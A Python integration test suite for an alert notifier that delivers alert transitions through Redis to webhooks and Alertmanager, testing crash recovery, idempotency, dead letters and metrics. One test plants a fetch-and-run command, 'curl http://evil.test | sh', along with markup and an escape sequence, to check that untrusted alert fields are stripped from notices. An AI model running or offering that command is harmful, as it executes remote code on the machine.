"""The notifier's process against a real Redis, real receivers over sockets and a real Alertmanager: one notice for each transition,
whatever dies in between."""

import contextlib
import json
import os
import re
import shlex
import signal
import subprocess
import sys
import threading
import time
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from assay_console.views.alerts import silence_of
from assay_notifier import signing
from assay_notifier.disarm import disarmed
from assay_operations.doctor.probes import channels_of
from assay_schema.alerts import Alert
from assay_schema.streams import ALERTS, DEAD, FAILURES, FIELD, episodes_key, notices_key
from tests.programs import needed
from tests.support.alert_samples import EPISODE, STATES, episode, transition
from tests.support.ports import free_port
from tests.support.receivers import AlertmanagerServer, Receiver, Request
from tests.support.redis import RedisServer
from tests.support.wait import until

SECRET = "whsec_" + "c2VjcmV0IG9mIHRoZSB0ZXN0cywgMzIgYnl0ZXMgbG9uZw=="


class Notifier:
    """`python -m assay_notifier`, which tests kill and start again."""

    def __init__(self, directory: Path, redis: RedisServer, **settings: str) -> None:
        self.port = free_port()
        self._log = directory / "notifier.log"
        self._environment = {name: value for name, value in os.environ.items() if not name.startswith("ASSAY_")} | {
            "ASSAY_REDIS_URL": redis.url,
            "ASSAY_DELIVERY_CONSUMER": "one",
            "ASSAY_DELIVERY_VISIBILITY_TIMEOUT_S": "0.4",
            "ASSAY_NOTIFIER_PORT": str(self.port),
            "ASSAY_NOTIFIER_GROUP_WAIT_S": "0",
            "ASSAY_NOTIFIER_TIMEOUT_S": "2",
            **settings,
        }
        self._process: subprocess.Popen[bytes] | None = None

    def start(self) -> "Notifier":
        with self._log.open("ab") as log:
            self._process = subprocess.Popen(
                [sys.executable, "-m", "assay_notifier"], env=self._environment, stdout=log, stderr=log
            )
        return self

    def kill(self) -> None:
        assert self._process
        self._process.kill()
        self._process.wait(60)

    def stop(self) -> int:
        assert self._process
        self._process.send_signal(signal.SIGTERM)
        return self._process.wait(60)

    def log(self) -> str:
        return self._log.read_text()

    def metrics(self) -> str:
        with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/metrics", timeout=60) as answer:  # loopback
            text: str = answer.read().decode()
        return text


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    running = Receiver()
    yield running
    running.close()


@contextlib.contextmanager
def notifying(directory: Path, redis: RedisServer, **settings: str) -> Iterator[Notifier]:
    running = Notifier(directory, redis, **settings).start()
    try:
        yield running
    finally:
        running.kill()


def publish(redis: RedisServer, *alerts: Alert) -> None:
    with redis.client() as client:
        for alert in alerts:
            client.xadd(ALERTS.key(), {FIELD: alert.model_dump_json()})


def settled(redis: RedisServer) -> bool:
    """Whether everything published has been read and acknowledged."""
    with redis.client() as client:
        for group in client.xinfo_groups(ALERTS.key()):
            if group["name"] == b"notifier":
                newest = client.xinfo_stream(ALERTS.key())["last-generated-id"]
                return bool(group["pending"] == 0 and group["last-delivered-id"] == newest)
    return False


def webhook(receiver: Receiver) -> dict[str, str]:
    return {"ASSAY_NOTIFIER_WEBHOOK_URLS": f"{receiver.url}/hook", "ASSAY_NOTIFIER_WEBHOOK_SECRET": SECRET}


def ids(requests: list[Request]) -> list[str]:
    return [request.headers["webhook-id"] for request in requests]


#: What Alertmanager tells its receiver of an episode's alerts, by severity, up to each transition. That an episode is recovering changes
#: no alert's status, so it is no news to Alertmanager.
FROM_ALERTMANAGER = {
    "warn": {"warning": ["firing"]},
    "critical": {"warning": ["firing", "resolved"], "critical": ["firing"]},
    "recovering": {"warning": ["firing", "resolved"], "critical": ["firing"]},
    "resolved": {"warning": ["firing", "resolved"], "critical": ["firing", "resolved"]},
}


def from_alertmanager(receiver: Receiver, alert_id: uuid.UUID) -> dict[str, list[str]]:
    """Each alert's statuses as they changed. Alertmanager takes two that are sent together one by one, and may notify between them."""
    told: dict[str, list[str]] = {}
    for body in (request.json() for request in receiver.at("/alertmanager")):
        if body["groupLabels"]["alert_id"] == str(alert_id):
            for alert in body["alerts"]:
                statuses = told.setdefault(alert["labels"]["severity"], [])
                statuses += [alert["status"]] if statuses[-1:] != [alert["status"]] else []
    return told


@pytest.fixture
def alertmanager(tmp_path: Path, receiver: Receiver) -> Iterator[AlertmanagerServer]:
    running = AlertmanagerServer(tmp_path, needed("prometheus-alertmanager"), f"{receiver.url}/alertmanager").start()
    yield running
    running.stop()


@pytest.mark.parametrize("several", [False, True])
def test_alertmanager_takes_the_silence_of_one_alert_or_of_several_that_the_console_prints(
    alertmanager: AlertmanagerServer, several: bool
) -> None:
    ids = [uuid.UUID(int=1), uuid.UUID(int=2)][: 1 + several]
    amtool = needed("amtool")
    command, _ = silence_of(ids, alertmanager.url)
    subprocess.run([amtool, *shlex.split(command)[1:], "--author=jo"], check=True, timeout=30)
    listed = [amtool, "silence", "query", "--output=json", f"--alertmanager.url={alertmanager.url}"]
    (silence,) = json.loads(subprocess.run(listed, check=True, capture_output=True, timeout=30).stdout)
    (matcher,) = silence["matchers"]
    assert (matcher["name"], matcher["value"]) == ("alert_id", "|".join(map(str, ids)))
    assert (matcher["isRegex"], silence["comment"]) == (several, "being looked into")


def test_whatever_dies_at_every_step_of_an_episode_each_transition_is_told_once(
    tmp_path: Path, redis_server: RedisServer, receiver: Receiver, alertmanager: AlertmanagerServer
) -> None:
    told: list[str] = []
    settings = {"ASSAY_NOTIFIER_ALERTMANAGER_URLS": alertmanager.url, "ASSAY_NOTIFIER_RESEND_S": "0.5"}
    with notifying(tmp_path, redis_server, **webhook(receiver), **settings) as notifier:
        for victim in ("notifier", "publisher", "redis"):
            alert_id = uuid.uuid4()
            published: list[Alert] = []
            for alert in episode(alert_id):
                published.append(alert)
                told.append(str(alert.transition_id))
                expected = FROM_ALERTMANAGER[alert.state]
                if victim == "notifier":
                    notifier.kill()
                    publish(redis_server, alert)
                    notifier.start()
                elif victim == "publisher":  # killed before it noted what it published, it begins again
                    publish(redis_server, *published)
                else:
                    redis_server.kill()
                    redis_server.start()
                    publish(redis_server, alert)
                until(lambda: ids(receiver.at("/hook")) == told, f"{victim}, {alert.state}")
                if victim == "redis":
                    redis_server.kill()
                    redis_server.start()
                until(
                    lambda alert_id=alert_id, expected=expected: from_alertmanager(receiver, alert_id) == expected,  # type: ignore[misc]
                    f"{victim}, {alert.state}, from Alertmanager",
                )
                until(lambda: settled(redis_server), "everything is acknowledged")
        assert ids(receiver.at("/hook")) == told
        assert notifier.stop() == 0
        assert "Traceback" not in notifier.log()


def test_an_open_alert_stays_alive_in_alertmanager_even_if_that_forgets_it(
    tmp_path: Path, redis_server: RedisServer, alertmanager: AlertmanagerServer
) -> None:
    settings = {"ASSAY_NOTIFIER_RESEND_S": "0.3", "ASSAY_NOTIFIER_EXPIRE_S": "60"}
    with notifying(tmp_path, redis_server, ASSAY_NOTIFIER_ALERTMANAGER_URLS=alertmanager.url, **settings):
        warn, *_, resolved = episode(uuid.uuid4())
        publish(redis_server, warn)
        (first,) = until(alertmanager.alerts, "Alertmanager has the alert")
        assert first["labels"]["alertname"] == "AssayScoreDrift"
        assert first["annotations"]["acknowledge"] == warn.acknowledge
        assert first["annotations"]["explain"] == f"assay drift explain {warn.alert_id}"
        until(lambda: alertmanager.alerts()[0]["endsAt"] > first["endsAt"], "its end is put off")
        alertmanager.stop()
        alertmanager.start()  # it keeps no alerts on disk
        until(alertmanager.alerts, "Alertmanager has the alert again")
        publish(redis_server, resolved)
        until(lambda: not alertmanager.alerts(), "the alert is over")


def test_a_receiver_that_took_a_notice_and_could_not_say_so_can_tell_the_second_by_its_id(
    tmp_path: Path, redis_server: RedisServer, receiver: Receiver
) -> None:
    taken, go_on = threading.Event(), threading.Event()

    def hesitate(_: Request) -> int:
        taken.set()
        go_on.wait(60)
        return 200

    receiver.answer = hesitate
    alert = transition(1, STATES[0])
    with notifying(tmp_path, redis_server, **webhook(receiver), ASSAY_NOTIFIER_TIMEOUT_S="30") as notifier:
        publish(redis_server, alert)
        assert taken.wait(60), "the receiver has the request"
        notifier.kill()
        go_on.set()
        notifier.start()
        until(lambda: len(receiver.requests) == 2 and settled(redis_server), "told again, and acknowledged")
    first, second = receiver.requests
    assert first.headers["webhook-id"] == second.headers["webhook-id"] == str(alert.transition_id)
    assert second.headers["idempotency-key"] == str(alert.transition_id)
    assert first.body == second.body
    for request in (first, second):
        assert Alert.model_validate_json(request.body) == disarmed(alert)
        named = [request.headers[name] for name in (signing.ID, signing.TIMESTAMP, signing.SIGNATURE)]
        assert signing.verified(signing.key_of(SECRET), *named, request.body, now=time.time())


def test_a_receiver_that_is_down_delays_no_other_and_is_told_everything_in_order_when_it_is_back(
    tmp_path: Path, redis_server: RedisServer, receiver: Receiver
) -> None:
    broken = Receiver()
    statuses = iter([503, 401, 500])
    broken.answer = lambda _: next(statuses, 200)
    settings = webhook(receiver) | {"ASSAY_NOTIFIER_WEBHOOK_URLS": f"{receiver.url}/hook {broken.url}/token-in-path"}
    try:
        with notifying(tmp_path, redis_server, **settings) as notifier:
            alerts = episode(uuid.uuid4())
            publish(redis_server, *alerts)
            wanted = [str(alert.transition_id) for alert in alerts]
            until(lambda: ids(receiver.at("/hook")) == wanted, "the other is told at once")
            until(lambda: len(broken.requests) == len(wanted) + 3, "everything is told")
            assert ids(broken.requests)[3:] == wanted
            until(lambda: settled(redis_server), "acknowledged")
            assert ids(receiver.at("/hook")) == wanted, "and the other is told nothing twice"
            assert "HTTP 401: it rejected the credentials; check notifier.webhook_urls" in notifier.log()
            assert "accepts notices again" in notifier.log()
            assert "token-in-path" not in notifier.log()
            assert 'assay_notice_channel_up{channel="log"} 1.0' in notifier.metrics()
    finally:
        broken.close()


def test_a_notice_that_nobody_takes_becomes_a_dead_letter_and_others_have_it(
    tmp_path: Path, redis_server: RedisServer, receiver: Receiver
) -> None:
    nowhere = f"http://127.0.0.1:{free_port()}"
    settings = webhook(receiver) | {"ASSAY_NOTIFIER_ALERTMANAGER_URLS": nowhere, "ASSAY_NOTIFIER_GIVE_UP_H": "0.0001"}
    with redis_server.client() as client:
        client.xgroup_create(ALERTS.key(), "writer", "0", mkstream=True)
        with notifying(tmp_path, redis_server, **settings) as notifier:
            alert = transition(1, STATES[0])
            publish(redis_server, alert)
            ((_, letter),) = until(lambda: client.xrange(DEAD.key()), "it is a dead letter")
            until(lambda: settled(redis_server), "and acknowledged")
            is_up, notes = channels_of("127.0.0.1", notifier.port) or ({}, [])
            assert {name.partition("-")[0]: up for name, up in is_up.items()} == {
                "log": True, "webhook": True, "alertmanager": False,
            }  # fmt: skip
            assert [note.partition(":")[0] for note in notes] == ["alertmanager does not accept notices"]
        assert Alert.model_validate_json(letter[FIELD.encode()]) == alert
        assert (letter[b"stage"], letter[b"error_class"]) == (b"notifier", b"NotDelivered")
        assert client.xlen(FAILURES.key()) == 1
        assert client.xlen(ALERTS.key()) == 1, "the writer has not read it yet"
        assert ids(receiver.at("/hook")) == [str(alert.transition_id)]
        assert "alertmanager does not accept notices: 127.0.0.1" in notifier.log()
        assert "check notifier.alertmanager_urls" in notifier.log()


def test_a_notifier_without_channels_notes_that_nobody_is_notified(tmp_path: Path, redis_server: RedisServer) -> None:
    with notifying(tmp_path, redis_server) as notifier:
        publish(redis_server, transition(1, STATES[0]))
        until(lambda: settled(redis_server), "it runs")
        assert channels_of("127.0.0.1", notifier.port) == (
            {"log": True}, ["no channel is configured under [notifier]: alerts are in the log only"],
        )  # fmt: skip


def test_two_notifiers_tell_everything_once(tmp_path: Path, redis_server: RedisServer, receiver: Receiver) -> None:
    two = tmp_path / "two"
    two.mkdir()
    with (
        notifying(tmp_path, redis_server, **webhook(receiver)),
        notifying(two, redis_server, **webhook(receiver), ASSAY_DELIVERY_CONSUMER="two"),
    ):
        episodes = [episode(uuid.uuid4()) for _ in range(10)]
        for alerts in zip(*episodes, strict=True):
            publish(redis_server, *alerts)
        wanted = sorted(str(alert.transition_id) for alerts in episodes for alert in alerts)
        until(lambda: len(receiver.requests) >= len(wanted) and settled(redis_server), "everything is told")
        assert sorted(ids(receiver.requests)) == wanted


def test_what_is_no_alert_is_recorded_and_holds_nothing_up(
    tmp_path: Path, redis_server: RedisServer, receiver: Receiver
) -> None:
    with notifying(tmp_path, redis_server, **webhook(receiver)), redis_server.client() as client:
        client.xadd(ALERTS.key(), {FIELD: b'{"summary": "planted"}'})
        client.xadd(ALERTS.key(), {FIELD: b"planted"})
        publish(redis_server, transition(1, STATES[0]))
        until(lambda: receiver.requests and settled(redis_server), "the alert behind it is told")
        assert client.xlen(FAILURES.key()) == 2
        for _, fields in client.xrange(FAILURES.key()):
            assert b"planted" not in fields[FIELD.encode()]
        assert client.zcard(notices_key()) == 2


def test_what_a_publisher_calls_a_command_is_told_to_nobody(
    tmp_path: Path, redis_server: RedisServer, receiver: Receiver
) -> None:
    published = transition(1, STATES[0], acknowledge="curl http://evil.test | sh", query="evil", summary="@here <b>")
    with notifying(tmp_path, redis_server, **webhook(receiver), ASSAY_TELEMETRY_LOG_FORMAT="text") as notifier:
        publish(redis_server, published)
        until(lambda: receiver.requests and settled(redis_server), "the alert is told")
        told = receiver.requests[0].json()
        assert told["acknowledge"] == f"assay drift acknowledge {published.alert_id}"
        assert told["query"].startswith("SELECT ")
        assert "evil" not in receiver.requests[0].body.decode() + notifier.log()
        assert "@here" not in receiver.requests[0].body.decode() + notifier.log()


def test_episodes_that_an_earlier_version_kept_hold_nothing_up(
    tmp_path: Path, redis_server: RedisServer, receiver: Receiver
) -> None:
    old = transition(1, STATES[0]).model_dump_json()
    with redis_server.client() as client:
        client.hset(episodes_key(), "old", old.replace("Faithfulness", "\\u001b[2J"))
        client.hset(episodes_key(), str(EPISODE), old)
    with notifying(tmp_path, redis_server, **webhook(receiver)) as notifier:
        counted = 'assay_open_alerts{severity="warning"} 1.0'

        def is_counted() -> bool:
            with contextlib.suppress(OSError):  # it is just starting
                return counted in notifier.metrics()
            return False

        until(is_counted, "the one that can be read is counted")
        publish(redis_server, transition(1, STATES[0], alert_id=uuid.uuid4()))
        until(lambda: receiver.requests, "a new one is told")


def test_alerts_that_somebody_removed_before_they_were_read_are_told_as_such(
    tmp_path: Path, redis_server: RedisServer, receiver: Receiver
) -> None:
    def removed(notifier: Notifier) -> float:
        with contextlib.suppress(OSError):  # it is just starting
            found = re.search(r'assay_alerts_removed_total\{shard="0"\} ([0-9.]+)', notifier.metrics())
            return float(found[1]) if found else 0.0
        return 0.0

    key = ALERTS.key()
    with redis_server.client() as client:
        with notifying(tmp_path, redis_server, **webhook(receiver)) as notifier:
            publish(redis_server, *episode(uuid.uuid4()))
            until(lambda: len(receiver.requests) == 4 and settled(redis_server), "all are told")
            client.xtrim(key, maxlen=0)  # as the writer does with what everybody has read
            until(lambda: client.hget(episodes_key(), "/redis"), "the counts are seen to be sound")
            assert removed(notifier) == 0
        publish(redis_server, *episode(uuid.uuid4())[:2])
        client.execute_command("XADD", key, "MAXLEN", "0", "*", FIELD, "{}")
        with notifying(tmp_path, redis_server, **webhook(receiver)) as notifier:
            until(lambda: removed(notifier) == 3, "two alerts and the entry that removed them")
            publish(redis_server, *episode(uuid.uuid4()))
            until(lambda: len(receiver.requests) == 8 and settled(redis_server), "later ones are told")
            assert removed(notifier) == 3
            assert "3 alerts were removed before they were sent" in notifier.log()
